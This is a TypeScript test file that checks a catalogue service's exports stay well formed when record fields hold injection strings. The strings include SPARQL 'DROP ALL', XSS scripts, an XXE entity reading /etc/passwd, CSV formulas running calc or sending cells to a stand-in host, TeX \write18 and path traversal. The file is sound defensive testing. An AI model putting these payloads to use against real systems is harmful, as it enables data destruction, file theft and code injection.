// Texts with a special meaning in some language, in every text field and every identifier, read back in every
// format. Each response, read by an independent parser, must equal the response for a harmless text with the
// one text in place of the other. So the text is complete, and nothing was injected with it.

import { gunzipSync } from 'node:zlib'

import { SaxesParser } from '@rubensworks/saxes'
import { expect } from 'chai'
import { parse as parseCsv } from 'csv-parse/sync'
import jsonld, { type JsonLdDocument } from 'jsonld'
import { Parser, type Quad } from 'n3'
import { parse as parseHtml, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { RdfXmlParser } from 'rdfxml-streaming-parser'

import { encodeSegment } from '../../src/rdf/terms.js'
import { notInXml } from '../../src/rdf/xml.js'
import { readIso2709 } from '../formats/iso2709-reader.js'
import { type Resource, listPath, recordPath, resources, useCatalogue } from '../http/catalogue.js'
import { links } from '../http/raw-socket.js'
import { BASE_URL } from '../service.js'
import { ask } from '../features/sparql/client.js'

// prettier-ignore
const hostile: Readonly<Record<string, string>> = {
  'the end of a SPARQL literal':  `x" . } ; DROP ALL ; { ?s ?p "`,
  'the end of a SPARQL string':   `x' UNION { GRAPH ?g { ?s ?p ?o } } #`,
  'a SPARQL variable':            '?s $s ?g',
  'the end of a Turtle literal':  '""" , <a:b> ; <c:d> """',
  'the end of a line of triples': 'x" .\n<a:s> <a:p> "y" .\n#',
  'an invalid escape':       '\\u0022 \\n \\" \\',
  'the end of an IRI':            '> <javascript:alert(1)> <',
  'a scheme':                     'javascript:alert(1)//',
  'an invalid IRI':          'http://[::1 {x}|^`\\',
  'a keyword of JSON-LD':         '@id',
  'a term of the context':        'title',
  'a blank node':                 '_:b0',
  'a header':                     'x\r\nX-Injected: 1\r\n\r\n<html>',
  'a path':                       '../../etc/passwd%2e%2e%2f..;/\\..\\',
  'the end of an element':        '</dc:title></subfield><b a="1">&amp;&#65;&x;',
  'the end of a section':         ']]><!-- --><?php ?><![CDATA[',
  'an entity':                    '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  'a formula':                    `=HYPERLINK("http://x.example/?"&A1,"x")`,
  'a formula that adds':          '+1+cmd|\' /C calc\'!A0',
  'a formula that subtracts':     '-2+3',
  'a formula of old':             '@SUM(1+1)*cmd',
  'another row':                  'x","y"\r\n"z",|a\\|b',
  'a command of TeX':             '\\input{/etc/passwd} \\write18{id} $x^2_1$ # & % ~',
  'another entry':                'x}},\n@book{y, title = {z}}',
  'a brace':                      '}{ {{ }} \\} \\{',
  'a script':                     '"><script>alert(1)</script><img src=x onerror=alert(1)>',
  'an attribute':                 `' onmouseover='alert(1)' x="`,
  'a template':                   '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {?value} {$maxLength} {?values}',
  'what a replacement means':     "$& $1 $` $' $$ \\1",
  'a regular expression':         '(a+)+$ .* [^x] (?:',
  'a line of a log':              '%s %n %d\n{"level":60,"msg":"forged"}\u001b[31m',
  'a key of every object':        '__proto__ constructor toString',
  'a truth and a number':         'null true NaN 1e999 -0',
  'characters that hide':         'a\u202eb\u200bc\u2028d\u2029e\ufefff',
  'characters not allowed in XML': 'a\u0001b\u001fc\ufffed\uffff',
}

/** The harmless text, in an identifier and elsewhere. Neither occurs in any other text. */
const harmless = { id: 'Qharmlessid', text: 'Qharmlesstext' }

/** Fields with a meaning or a fixed form, which keep the values of the examples. */
const fixedFields = new Set([
  ...[
    'creator',
    'contributor',
    'publisher',
    'zine_id',
    'repository_id',
    'repo_id',
    'agent_id',
    'holding_id',
  ],
  ...['subject', 'genre', 'format', 'language', 'rights', 'kind', 'roles', 'wikidata', 'orcid'],
  ...[
    'website',
    'email',
    'social_media',
    'digital_url',
    'isil',
    'ror',
    'status',
    'repository_kind',
  ],
  ...['country', 'access_status', 'content_advice'],
])

// Some formats interpret these, such as a surname with forenames, an ISBN, or the height of a zine.
const interpreted = new Set([
  'sort_name',
  'identifier',
  'other_identifiers',
  'physical_dimensions',
  'number_of_pages',
])

describe('a text with a special meaning', () => {
  const { service } = useCatalogue({ SPARQL_WORKERS: '1' })
  let shapes: any

  before(async () => {
    shapes = (await service().get('/api/schema/?format=json')).body.components.schemas
    for (const words of [harmless, ...Object.values(hostile).map(wordsOf)]) await create(words)
  })

  type Words = typeof harmless

  const idOf = ({ name }: Resource, { id }: Words) => `${id} ${name}`

  /** Creates one record of each resource, which refer to each other, with the texts wherever they fit. */
  async function create(words: Words): Promise<void> {
    for (const name of ['agents', 'repositories', 'zines', 'holdings'] as const) {
      const { status, text, headers } = await service().post(listPath(name), recordOf(name, words))
      expect(status, text).to.equal(201)
      expect(headers.get('location')).to.equal(
        `${service().url}/api/${name}/${encodeSegment(`${words.id} ${name}`)}/`,
      )
    }
  }

  function recordOf(name: Resource['name'], words: Words): object {
    const { full, noun } = resourceOf(name)
    const reference = (target: Resource['name']) => `${words.id} ${target}`
    const references = {
      zines: {
        creator: [reference('agents')],
        contributor: [reference('agents'), 'helper'],
        publisher: [reference('agents')],
      },
      agents: {},
      repositories: {},
      holdings: { zine_id: reference('zines'), repository_id: reference('repositories') },
    }
    const record: Record<string, unknown> = full(reference(name), references[name])
    for (const [field, value] of Object.entries(record)) {
      const shape = shapes[`${noun}Write`].properties[field]
      if (fixedFields.has(field) || typeof value === 'number' || typeof value === 'boolean')
        continue
      record[field] = filled(field, value, words, shape)
    }
    return record
  }

  /** The text before or after the name of the field, if it is not too long for the field. */
  function filled(field: string, value: unknown, { text }: Words, shape: any): unknown {
    const most: number = (Array.isArray(value) ? shape.items : shape).maxLength ?? Infinity
    const [before, after] = [`${text} ${field}`, `${field} ${text}`]
    const longest =
      Math.max(...[...Object.values(hostile), text].map((one) => one.length)) + field.length
    if (longest >= most || interpreted.has(field)) return value
    if (!Array.isArray(value)) return field.length % 2 === 0 ? before : after
    return field === 'date' ? ['1994', before] : [before, after]
  }

  const resourceOf = (name: Resource['name']): Resource => {
    const found = resources.find((one) => one.name === name)
    if (!found) throw new Error(name)
    return found
  }

  async function read(
    format: string,
    resource: Resource,
    words: Words,
    more = '',
  ): Promise<string> {
    const path = `${recordPath(resource.name, idOf(resource, words))}?format=${format}${more}`
    const { status, text, headers } = await service().get(path)
    expect(status, text).to.equal(200)
    for (const [name, value] of headers)
      expect(`${name}: ${value}`).not.to.match(/[\r\n]|^x-injected/i)
    for (const [, target] of links(headers)) expect(URL.canParse(target), target).to.equal(true)
    return text
  }

  /** Replaces the harmless texts in a parsed response by others, in all its values. */
  function withTexts(leaf: unknown, words: Words, becomes: (text: string) => string): unknown {
    if (Array.isArray(leaf)) return leaf.map((one) => withTexts(one, words, becomes))
    if (typeof leaf === 'object' && leaf !== null)
      return Object.fromEntries(
        Object.entries(leaf).map(([key, one]) => [key, withTexts(one, words, becomes)]),
      )
    if (typeof leaf !== 'string') return leaf
    const isAddress = [BASE_URL, service().url].some((origin) => leaf.startsWith(origin))
    return leaf
      .replaceAll(harmless.id, () => (isAddress ? encodeSegment(words.id) : becomes(words.id)))
      .replaceAll(harmless.text, () => becomes(words.text))
  }

  /** Replaces timestamps, which always differ. */
  const timeless = (text: string): string =>
    text
      .replace(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d{1,6})?Z/g, 'TIME')
      // As long as before, since MARC counts bytes.
      .replace(/\b2\d{13}\.0\b/g, 'TIME'.padEnd(16, '_'))
      // The address of a series and the lines of a drawn cover follow from the text. escaping.test.ts has covers.
      .replace(/\/series\/[^\s"<>&?]+/g, '/series/SERIES')
      .replace(/<div class="cover[^"]*drawn.*?<\/div>/gs, '<div></div>')
      // Texts that are alike without their marks are of the same series.
      .replace(/<section class="related"><h2>[^<]*<\/h2><ul class="values">.*?<\/section>/gs, '')

  type Reader = {
    readonly format: string
    readonly more?: string
    readonly read: (text: string, resource: Resource) => unknown
    /** How the format changes a text, such as characters that it cannot contain. */
    readonly becomes?: (text: string) => string
    readonly of?: readonly Resource['name'][]
  }

  const readers: readonly Reader[] = [
    { format: 'json', read: (text) => JSON.parse(text) as unknown },
    { format: 'csv', read: readCsv },
    { format: 'csv', more: '&safe=1', read: readSafeCsv },
    {
      format: 'turtle',
      read: (text) => graphOf(new Parser({ format: 'text/turtle' }).parse(text)),
    },
    {
      format: 'ntriples',
      read: (text) => graphOf(new Parser({ format: 'N-Triples' }).parse(text)),
    },
    { format: 'rdfxml', read: readRdfXml, becomes: (text) => text.replace(notInXml, '\ufffd') },
    { format: 'jsonld', read: readJsonld },
    // Characters that XML cannot contain are left out.
    { format: 'dc', read: readXml, becomes: (text) => text.replace(notInXml, '') },
    // Line breaks become spaces in MARC.
    {
      format: 'marcxml',
      read: (text) => readXml(unlined(text)),
      becomes: (text) =>
        text
          .replace(notInXml, ' ')
          .replace(/[\s\p{Cc}]+/gu, ' ')
          .trim(),
      of: ['zines', 'agents', 'holdings'],
    },
    {
      format: 'bibtex',
      read: readBibtex,
      becomes: onOneLine,
      of: ['zines', 'holdings'],
    },
    {
      format: 'ris',
      read: (text) => text.split('\r\n').map((line) => unlined(line).split(/^(..) {2}- /)),
      becomes: onOneLine,
      of: ['zines', 'holdings'],
    },
    {
      format: 'csljson',
      read: (text) => JSON.parse(text) as unknown,
      of: ['zines', 'holdings'],
    },
    {
      format: 'marc',
      read: (text) =>
        readIso2709(Buffer.from(text)).map(({ fields }) =>
          fields.map((field) =>
            'text' in field
              ? unlined(field.text)
              : field.subfields.map((subfield) => unlined(subfield.slice(1))),
          ),
        ),
      becomes: (text) => onOneLine(text.replace(/[\ufffe\uffff]/g, ' ').replace(/\p{Cs}/gu, '')),
      of: ['zines', 'agents', 'holdings'],
    },
    {
      format: 'mods',
      read: readXml,
      becomes: (text) => text.replace(notInXml, ''),
      of: ['zines'],
    },
    { format: 'html', read: readHtml },
  ]

  async function readJsonld(text: string): Promise<unknown> {
    const context = (await service().get('/api/context.jsonld')).body
    const documentLoader = (url: string) => {
      expect(url).to.equal(`${BASE_URL}/api/context.jsonld`)
      return Promise.resolve({ documentUrl: url, document: context })
    }
    const quads: unknown = await jsonld.toRDF(
      JSON.parse(text) as JsonLdDocument,
      {
        format: 'application/n-quads',
        documentLoader,
      } as object,
    )
    return graphOf(new Parser({ format: 'N-Quads' }).parse(quads as string))
  }

  for (const [what, text] of Object.entries(hostile))
    describe(`such as ${what}`, () => {
      const words = wordsOf(text)

      for (const reader of readers)
        it(`is only a text in ${reader.format}${reader.more ?? ''}`, async () => {
          for (const resource of resources) {
            if (reader.of && !reader.of.includes(resource.name)) continue
            const [expected, given] = await Promise.all(
              [harmless, words].map(async (one) =>
                reader.read(
                  timeless(await read(reader.format, resource, one, reader.more)),
                  resource,
                ),
              ),
            )
            const { becomes = same } = reader
            expect(sorted(given)).to.deep.equal(sorted(withTexts(expected, words, becomes)))
          }
        })
    })

  describe('among many others', () => {
    const total = Object.keys(hostile).length + 1

    for (const { format, of, read: parse } of readers.filter(({ more }) => more === undefined))
      if (format !== 'html')
        it(`leaves the export as ${format} well formed`, async () => {
          for (const resource of resources) {
            const { name } = resource
            if (of && !of.includes(name)) continue
            const { status, text, headers } = await service().get(
              `/api/${name}/export/?format=${format}`,
            )
            expect(status).to.equal(200)
            expect(headers.get('content-disposition')).to.match(
              /^attachment; filename="[a-z]+\.[a-z]+"$/,
            )
            expect(Number(headers.get('x-total-count'))).to.be.at.least(total)
            expect(await parse(text, resource)).not.to.be.empty
          }
        })

    it('is only a text in the dumps', async () => {
      const titles = Object.values(hostile).map((text) => `title ${text}`)
      const dumps = [
        ['catalogue.nt.gz', 'N-Triples'],
        ['catalogue.ttl.gz', 'Turtle'],
      ] as const
      // Both are fetched before one is parsed, since the service closes idle connections.
      const packed = await Promise.all(
        dumps.map(async ([name]) => (await fetch(`${service().url}/dumps/${name}`)).arrayBuffer()),
      )
      for (const [at, [, type]] of dumps.entries()) {
        const text = gunzipSync(packed[at] ?? new ArrayBuffer(0)).toString('utf8')
        const quads = new Parser({ format: type }).parse(text)
        const values = new Set(quads.map(({ object }) => object.value))
        expect(titles.filter((title) => !values.has(title))).to.deep.equal([])
        for (const { subject, predicate } of quads) {
          expect(subject.value).not.to.match(/^[ac]:/)
          expect(predicate.value).not.to.match(/^[ac]:/)
        }
      }
    })

    // prettier-ignore
    const tables: readonly (readonly [type: string, read: (text: string) => unknown])[] = [
      ['application/sparql-results+json', (text) => JSON.parse(text).results.bindings.map((row: any) => row.o.value)],
      ['text/csv', (text) => parseCsv(text, { columns: true }).map((row: any) => row.o)],
      ['application/sparql-results+xml', (text) => literalsIn(text)],
      ['text/tab-separated-values', (text) => text.trim().split('\n').slice(1).map((line) => new Parser().parse(`<a:s> <a:p> ${line} .`)[0]?.object.value)],
    ]

    for (const [type, parse] of tables)
      it(`is only a text in SPARQL results as ${type}`, async () => {
        const query = `SELECT ?o { ?s <http://purl.org/dc/terms/title> ?o . FILTER(STRSTARTS(?o, "title ")) }`
        const { status, text } = await ask(service(), query, { accept: type })
        expect(status, text).to.equal(200)
        const clean = (title: string) =>
          type.endsWith('xml') ? title.replace(notInXml, '') : title
        const titles = [harmless.text, ...Object.values(hostile)].map((one) =>
          clean(`title ${one}`),
        )
        expect(parse(text)).to.have.members(titles)
      })
  })
})

const same = (text: string): string => text

// Identifiers have no control characters and no white space at their ends. U+FFFE has its own test.
function wordsOf(text: string) {
  return {
    id: text.replace(/[\p{Cc}\ufffe\uffff]+/gu, ' ').trim(),
    text,
  }
}

/** The statements of a graph in a fixed order; any other value as it is. */
function sorted(value: unknown): unknown {
  if (typeof value !== 'object' || value === null || !('statements' in value)) return value
  return (value.statements as unknown[]).map((one) => JSON.stringify(one)).sort()
}

/** Each statement as an array of strings. */
/** Two series may have the same address by now (`timeless`). */
const distinct = (quads: readonly Quad[]): readonly Quad[] =>
  quads.filter((quad, index) => quads.findIndex((other) => other.equals(quad)) === index)

const graphOf = (quads: readonly Quad[]): unknown => ({
  statements: distinct(quads).map(({ subject, predicate, object }) => [
    subject.value,
    predicate.value,
    object.termType,
    object.value,
  ]),
})

/** The rows with their cells by name; cells with several values are split. */
function readCsv(text: string, { full }: Resource): unknown {
  const example: Readonly<Record<string, unknown>> = full('any')
  const hasMany = (name: string): boolean =>
    Array.isArray(example[name] ?? example[name.replace(/_names$/, '')])
  const rows: Record<string, string>[] = parseCsv(text, { columns: true })
  return rows.map((row) =>
    Object.entries(row).map(([name, cell]) => [name, hasMany(name) ? split(cell) : cell]),
  )
}

/** The values of a cell: `|` is between two, unless there is a backslash before it. */
const split = (cell: string): string[] =>
  (cell.match(/(?:\\[^]|[^\\|])+/g) ?? []).map((value) => value.replace(/\\([^])/g, '$1'))

/** Checks that no cell is a formula, then reads the cells without the apostrophes that prevent it. */
function readSafeCsv(text: string, resource: Resource): unknown {
  const rows: string[][] = parseCsv(text)
  for (const cell of rows.flat()) expect(cell).not.to.match(/^[=+\-@\t\r]/)
  return readCsv(text.replace(/(^|,|")'(?=[=+\-@\t\r])/gm, '$1'), resource)
}

function readRdfXml(text: string): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const quads: Quad[] = []
    const parser = new RdfXmlParser({ baseIRI: BASE_URL })
    parser.on('data', (quad: Quad) => quads.push(quad))
    parser.on('error', reject)
    parser.on('end', () => resolve(graphOf(quads)))
    parser.end(text)
  })
}

function onOneLine(text: string): string {
  return text.replace(/[\s\p{Cc}]+/gu, ' ').trim()
}

/** The text without the marks for line ends: dashes in a table of contents, line separators in identifiers. */
const unlined = (text: string): string =>
  text.replaceAll(' -- ', ' ').replace(/[\u2028\u2029\ufeff]/g, ' ')

/** The literals of SPARQL's XML. */
function literalsIn(text: string): string[] {
  const found: string[] = []
  const parser = new SaxesParser({ xmlns: true })
  let content = ''
  parser.on('opentag', () => (content = ''))
  parser.on('text', (more) => (content += more))
  parser.on('closetag', ({ local }) => local === 'literal' && found.push(content))
  parser.write(text).close()
  return found
}

/** Elements with their attributes and texts, in their order. */
function readXml(text: string): unknown {
  const found: unknown[] = []
  const parser = new SaxesParser({ xmlns: true })
  parser.on('opentag', ({ name, attributes }) =>
    found.push([name, Object.entries(attributes).map(([key, { value }]) => [key, value])]),
  )
  parser.on('text', (content) => found.push(content))
  parser.on('comment', () => found.push('a comment'))
  parser.on('cdata', () => found.push('a section'))
  parser.on('processinginstruction', () => found.push('an instruction'))
  parser.on('error', (error) => {
    throw error
  })
  parser.write(text).close()
  return found
}

/** Entries as BibTeX reads them, which counts braces whatever is before them; without keys, which are hashes. */
function readBibtex(text: string): unknown {
  const entries: unknown[] = []
  // In URLs the tilde is encoded, since TeX reads it as a space.
  let rest = text.replaceAll('%7E', '~')
  for (;;) {
    const [head, type = '', key = ''] = /^\s*@(\w+)\{([\w:.-]+),/.exec(rest) ?? []
    if (head === undefined) break
    rest = rest.slice(head.length)
    const fields: unknown[] = []
    for (;;) {
      const [start, name = '', macro] = /^\s*(\w+) = (?:\{|(\w+),)/.exec(rest) ?? []
      if (start === undefined) break
      rest = rest.slice(start.length)
      if (macro === undefined) {
        const end = endOfBraces(rest)
        fields.push([name, unlined(printedByTex(rest.slice(0, end)))])
        rest = rest.slice(end + 1).replace(/^,/, '')
      }
    }
    expect(rest, key).to.match(/^\s*\}/)
    rest = rest.replace(/^\s*\}/, '')
    entries.push([type, fields])
  }
  expect(rest.trim()).to.equal('')
  return entries
}

function endOfBraces(text: string): number {
  let depth = 1
  for (const [index, character] of Array.from(text).entries()) {
    depth += { '{': 1, '}': -1 }[character] ?? 0
    if (depth === 0) return Array.from(text).slice(0, index).join('').length
  }
  throw new Error('a brace is not closed')
}

/** The text that TeX would print. */
const printedByTex = (text: string): string =>
  text
    .replace(/[{}]/g, '')
    .replace(
      /\\text(backslash|braceleft|braceright|asciitilde|asciicircum)/g,
      (_, name: string) => signs[name] ?? '',
    )
    .replace(/\\([%$#&_])/g, '$1')

const signs: Readonly<Record<string, string>> = {
  backslash: '\\',
  braceleft: '{',
  braceright: '}',
  asciitilde: '~',
  asciicircum: '^',
}

/** The elements of a page with the names of their attributes. Fails for scripts in attributes and URLs. */
function readHtml(text: string): unknown {
  const found: unknown[] = []
  const visit = (node: Tree.Node): void => {
    if ('tagName' in node) {
      for (const { name, value } of node.attrs) {
        expect(name).not.to.match(/^on|^style$|^srcdoc$/)
        if (['href', 'src', 'action', 'formaction'].includes(name))
          expect(value).to.match(/^(?:https?:\/\/|mailto:|\/(?!\/)|[?#])/)
      }
      found.push([node.tagName, node.attrs.map(({ name }) => name)])
    }
    if (node.nodeName === '#comment') found.push('a comment')
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(parseHtml(text))
  return found
}
